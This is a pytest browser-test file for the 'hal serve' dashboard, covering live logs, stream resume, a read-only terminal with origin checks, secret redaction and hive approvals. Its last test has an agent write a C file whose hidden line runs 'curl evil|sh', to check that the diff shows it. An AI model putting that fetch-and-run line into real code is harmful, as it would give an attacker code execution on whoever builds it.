"""The dashboard of a real ``hal serve`` in chromium: log in with the printed link, start a
task from the form and watch its log arrive live, cancel it, drop the stream mid-task and get
every line exactly once."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from tests.dashboard.conftest import credential_in
from tests.support.dashboard import LINES, Hal
from tests.support.hal import git

from hal9999.dashboard.auth import SESSION_HEADER

pytestmark = [pytest.mark.browser, pytest.mark.bwrap, pytest.mark.tmux]


@pytest.fixture(scope="module")
def hal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hal]:
    h = Hal(tmp_path_factory.mktemp("dash"))
    started = h("serve", "--detach", "--json")
    assert started.returncode == 0, started.stderr
    info = json.loads(started.stdout)
    assert "/login?t=" in info["dashboard"]  # `hal serve` prints the link
    h.base = info["dashboard"].split("/login")[0]  # type: ignore[attr-defined]
    yield h
    h("serve", "--stop")
    # The last test's hive turn may still be collecting: a stopped daemon leaves its sandbox
    # for the next one to adopt, and no next one comes. Stopped here, by the home's records.
    from tests.processes import pointing_into, stop_everything_of

    stop_everything_of(h.home, h.env)
    assert pointing_into(h.home) == {}, f"processes left running in {h.home}"


def screen_shows(page: Any, text: str, timeout: float = 15.0, between: str = "") -> bool:
    """Whether the terminal's screen shows ``text`` within ``timeout`` seconds; with
    ``between``, also when what matches it (a regex) splits the text."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        screen = page.text_content(".xterm-rows") or ""
        if text in (re.sub(between, "", screen) if between else screen):
            return True
        time.sleep(0.2)
    return False


def focus_terminal(page: Any) -> None:
    """Put the keyboard on the terminal, and wait until it is there: keys typed before
    xterm's input has the focus go to the page, and a read-only check would pass on them."""
    page.click(".term-screen")
    page.focus(".term-screen .xterm-helper-textarea")
    page.wait_for_function(
        "document.activeElement !== null"
        " && document.activeElement.classList.contains('xterm-helper-textarea')",
        timeout=10000,
    )


def log_lines(page: Any) -> list[str]:
    return [line for line in page.inner_text("#log").splitlines() if line.startswith("line ")]


def test_start_from_the_form_watch_it_live_and_cancel(browser: Any, hal: Hal, shot: Any) -> None:
    page = browser.new_context().new_page()
    page.goto(hal.link())
    page.click("a[href='/new']")
    page.fill("#prompt", "count slowly")
    page.fill("#repo", str(hal.repo))
    page.fill("#agent", "sh slow.sh {{prompt_file}}")
    page.click("#start")
    page.wait_for_url("**/tasks/*")
    page.wait_for_selector("#log:has-text('line 3 of')", timeout=30000)
    assert page.locator("#log .ansi-fg2").count() >= 3  # the colour arrived as a class
    shot(page, "live")
    page.click("#cancel")
    page.wait_for_selector("#task-status .badge-cancelled", timeout=30000)
    lines = log_lines(page)
    assert len(lines) < LINES and len(lines) == len(set(lines))
    shot(page)


def test_a_dropped_stream_resumes_without_duplicate_or_gap(
    browser: Any, hal: Hal, shot: Any
) -> None:
    out = hal("run", "--detach", "--agent", "sh slow.sh {{prompt_file}}", "count")
    assert out.returncode == 0, out.stderr
    task_id = out.stdout.strip()
    context = browser.new_context()
    page = context.new_page()
    page.goto(hal.link())
    page.goto(f"{hal.base}/tasks/{task_id}")  # type: ignore[attr-defined]
    page.wait_for_selector("#log:has-text('line 5 of')", timeout=30000)
    page.evaluate("hal.live.drop()")  # the connection goes as a network failure would
    time.sleep(0.5)
    context.set_offline(True)  # and again, with the network down for a while
    page.evaluate("hal.live.drop()")
    time.sleep(1.5)
    context.set_offline(False)
    page.wait_for_selector("#task-status .badge-succeeded", timeout=60000)
    lines = log_lines(page)
    assert lines == [f"line {n} of {LINES}" for n in range(1, LINES + 1)]
    assert page.evaluate("hal.live.stats.connects") >= 2
    page.wait_for_selector("#result-diff .diff-table")
    assert "calc.py" in page.inner_text("#result-diff")
    shot(page)
    # Resume with a follow-up prompt: the same page follows the second run to its end.
    page.fill("#resume-prompt", "count again")
    page.click("#resume")
    page.wait_for_function("() => document.querySelectorAll('#timeline .ev-end').length >= 2",
                           timeout=60000)  # fmt: skip
    assert len(log_lines(page)) == 2 * LINES
    shot(page, "resumed")


TICK = r"ticking \d+\s*"
"""A line of the ticking agent (rows run together in the screen's text)."""
TICKING = """#!/bin/sh
i=1
while [ $i -le 120 ]; do echo "ticking $i"; i=$((i + 1)); sleep 0.5; done
"""


def test_terminal_is_read_only_until_asked_and_checks_origin(
    browser: Any, hal: Hal, shot: Any
) -> None:
    (hal.repo / "tick.sh").write_text(TICKING)
    git(hal.repo, "add", "tick.sh")
    git(hal.repo, "commit", "-qm", "ticking agent")
    out = hal("run", "--detach", "--agent", "sh tick.sh {{prompt_file}}", "tick")
    assert out.returncode == 0, out.stderr
    task_id = out.stdout.strip()
    base = hal.base  # type: ignore[attr-defined]
    page = browser.new_context().new_page()
    sent: list[str] = []  # the terminal's frames, for a failure's message
    page.on("websocket", lambda ws: ws.on("framesent", lambda frame: sent.append(str(frame))))
    page.goto(hal.link())
    page.goto(f"{base}/tasks/{task_id}")
    page.wait_for_selector("#task-status .badge-running", timeout=30000)
    page.click("#open-terminal")
    assert screen_shows(page, "ticking")
    focus_terminal(page)
    page.keyboard.type("zzqq")
    # Read-only: tmux drops the keys (in write mode the pane's terminal echoes them).
    assert not screen_shows(page, "zzqq", timeout=1.5, between=TICK)
    shot(page, "read-only")
    page.click("#terminal-write")
    page.wait_for_selector("#terminal-mode:has-text('typing')")
    assert screen_shows(page, "ticking")
    focus_terminal(page)
    page.keyboard.type("typed")
    # The echo, in order, with nothing but the agent's ticks between the keys: a tick printed
    # while they were typed lands amid them ("typ", "ticking 16", then "ed" on the next row).
    assert screen_shows(page, "typed", between=TICK), (sent, page.text_content(".xterm-rows"))
    shot(page, "typing")

    # The websocket by hand: a foreign Origin, or no credential of the page's (whatever
    # cookie comes along, as a server on another port of 127.0.0.1 gets them) is refused.
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    assert page.context.cookies() == []  # the dashboard set none
    credential = page.evaluate("localStorage.getItem('hal-session')")
    url = base.replace("http", "ws") + f"/terminal/{task_id}"
    headers = {"cookie": f"hal_session={credential}"}
    proven = ["hal", f"hal-session.{credential}"]
    with pytest.raises(InvalidStatus) as refused:
        connect(url, origin="http://evil.example", additional_headers=headers, subprotocols=proven)  # type: ignore[arg-type, list-item]
    assert refused.value.response.status_code == 403
    for path in ("", "?write=1"):
        for protocols in (["hal"], ["hal", "hal-session." + "0" * 64]):
            with pytest.raises(InvalidStatus) as refused:
                connect(url + path, origin=base, additional_headers=headers, subprotocols=protocols)  # type: ignore[arg-type, list-item]
            assert refused.value.response.status_code == 403
    with connect(url, origin=base, additional_headers={}, subprotocols=proven) as ws:  # type: ignore[arg-type, list-item]
        assert ws.recv(timeout=10)  # the screen arrives
    page.click("#cancel")
    page.wait_for_selector("#task-status .badge-cancelled", timeout=30000)


def test_secrets_are_masked_on_the_page(browser: Any, hal: Hal, shot: Any) -> None:
    secret = "sk-live-" + "9f3b2c7d1e8a4f6b0c5d"
    hal.env["DASH_TOKEN"] = secret
    try:
        out = hal("run", "--detach", "--secret", "DASH_TOKEN", "--agent",
                  "sh -c 'echo the token is $DASH_TOKEN'", "leak it")  # fmt: skip
    finally:
        del hal.env["DASH_TOKEN"]
    assert out.returncode == 0, out.stderr
    page = browser.new_context().new_page()
    page.goto(hal.link())
    page.goto(f"{hal.base}/tasks/{out.stdout.strip()}")  # type: ignore[attr-defined]
    page.wait_for_selector("#log:has-text('the token is')", timeout=30000)
    page.wait_for_selector("#task-status .badge-succeeded", timeout=30000)
    assert secret not in page.content()
    assert "[REDACTED]" in page.inner_text("#log")
    shot(page)


def test_a_patch_the_scan_refused_is_never_shown_unmasked(hal: Hal) -> None:
    # The client's secret reaches the daemon only for the run: afterwards the daemon cannot
    # mask it, so a patch that still holds it (the refused result, as the agent wrote it)
    # is withheld, while a result scanned clean is shown.
    secret = "pw-" + "Tr0ub4dor&3x"
    hal.env["DASH_PASSWORD"] = secret
    ran = {}
    try:
        for name, text in (("leaked", '"$DASH_PASSWORD"'), ("clean", "nothing")):
            agent = f"sh -c 'echo {text} > {name}.txt'"
            ran[name] = hal("run", "--json", "--secret", "DASH_PASSWORD", "--agent", agent, "x")
    finally:
        del hal.env["DASH_PASSWORD"]
    leaked, clean = (json.loads(ran[name].stdout) for name in ("leaked", "clean"))
    assert leaked["error_code"] == "secret_in_result", ran["leaked"].stderr
    assert clean["status"] == "succeeded", ran["clean"].stderr
    with httpx.Client(base_url=hal.base, follow_redirects=False) as client:  # type: ignore[attr-defined]
        login = client.get(hal.link())
        assert login.status_code == 200
        assert client.get(f"/files/tasks/{clean['id']}/patch").status_code == 401  # no session
        client.headers[SESSION_HEADER] = credential_in(login.text)
        refused = client.get(f"/files/tasks/{leaked['id']}/patch")
        shown = client.get(f"/files/tasks/{clean['id']}/patch")
    assert secret not in refused.text
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "task_state"
    assert shown.status_code == 200 and "+nothing" in shown.text


def test_hive_question_and_proposals_through_the_real_api(
    browser: Any, hal: Hal, shot: Any
) -> None:
    from hal9999.hive import approvals, questions
    from hal9999.hive.store import agent_exists
    from hal9999.store import Store

    made = hal("agent", "spawn", "worker", "--agent", "true {{prompt_file}}")
    assert made.returncode == 0, made.stderr
    store = Store.open(hal.home)
    try:
        asked = questions.ask(store, asker="worker", question="<b>which</b> db?", ttl_s=600)
        spawn = approvals.propose(
            store,
            kind="spawn",
            proposer="worker",
            title="a helper",
            payload={"name": "helper", "agent": "true {{prompt_file}}"},
        )
        drop = approvals.propose(store, kind="destroy", proposer="worker", title="drop helper",
                                 payload={"name": "helper"})  # fmt: skip
        page = browser.new_context().new_page()
        page.goto(hal.link())
        page.goto(f"{hal.base}/hive")  # type: ignore[attr-defined]
        page.wait_for_selector(f"[data-question='{asked.id}']")
        page.wait_for_function("() => document.title.startsWith('(3) ')")
        assert "<b>which</b> db?" in page.inner_text(f"[data-question='{asked.id}']")
        shot(page, "waiting")
        page.fill(f"[data-question='{asked.id}'] .answer-text", "postgres")
        page.click(f"[data-question='{asked.id}'] button.answer")
        page.fill(f"[data-approval='{drop.id}'] .reason", "keep it")
        page.click(f"[data-approval='{drop.id}'] button.deny")
        page.click(f"[data-approval='{spawn.id}'] button.approve")
        page.wait_for_function("() => !document.title.startsWith('(')", timeout=30000)
        assert questions.get(store, asked.id).answer == "postgres"
        denied = approvals.get(store, drop.id)
        assert denied.state == "denied" and denied.reason == "keep it"
        assert approvals.get(store, spawn.id).state == "approved"
        assert agent_exists(store, "helper")  # the approved spawn was carried out
        page.wait_for_selector("[data-agent='helper']", timeout=30000)
        shot(page)
    finally:
        store.close()


def test_the_dashboards_diff_shows_a_change_a_nul_would_hide(hal: Hal) -> None:
    evil = 'system("curl evil|sh")'
    agent = ("sh -c 'printf \"/* note \\000 */\\nint main(void) { system(\\\"curl evil|sh\\\"); }"
             "\\n\" > evil.c'")  # fmt: skip
    ran = hal("run", "--json", "--agent", agent, "x")
    assert ran.returncode == 0, ran.stderr
    task = json.loads(ran.stdout)
    with httpx.Client(base_url=hal.base, follow_redirects=False) as client:  # type: ignore[attr-defined]
        client.headers[SESSION_HEADER] = credential_in(client.get(hal.link()).text)
        shown = client.get(f"/files/tasks/{task['id']}/patch")
    assert shown.status_code == 200, shown.text
    assert "Binary files" not in shown.text and "GIT binary patch" not in shown.text
    assert evil in shown.text and "+/* note \u2400 */" in shown.text
